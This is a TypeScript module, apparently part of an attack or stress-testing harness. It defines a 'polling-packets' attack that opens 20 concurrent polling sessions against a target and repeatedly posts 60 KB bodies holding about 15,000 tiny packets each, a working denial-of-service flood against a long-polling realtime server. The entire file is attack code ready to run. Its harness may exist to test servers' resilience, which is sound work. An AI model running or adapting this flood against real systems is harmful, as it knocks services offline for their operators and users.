import type { Attack } from '../attacker/attack.js';
import { PollingSession } from '../attacker/polling-session.js';
import { pauseUnlessOver } from '../attacker/message-window.js';

const SESSIONS = 20;
const SEPARATOR = '\u001e';
/** 60 KB of the smallest packets: some 20,000 in one request. */
const body = Array.from({ length: 20_000 }, () => '40,')
  .join(SEPARATOR)
  .slice(0, 60_000);

export const pollingPackets: Attack = {
  name: 'polling-packets',
  what: '20 polling sessions send bodies of 15,000 packets each',
  async run(signal, target) {
    const flood = async () => {
      while (!signal.aborted) {
        const session = await PollingSession.open(target);
        while (!signal.aborted && session !== null && (await session.post(body)))
          await session.poll();
        await pauseUnlessOver(50, signal);
      }
    };
    await Promise.all(Array.from({ length: SESSIONS }, flood));
  },
};
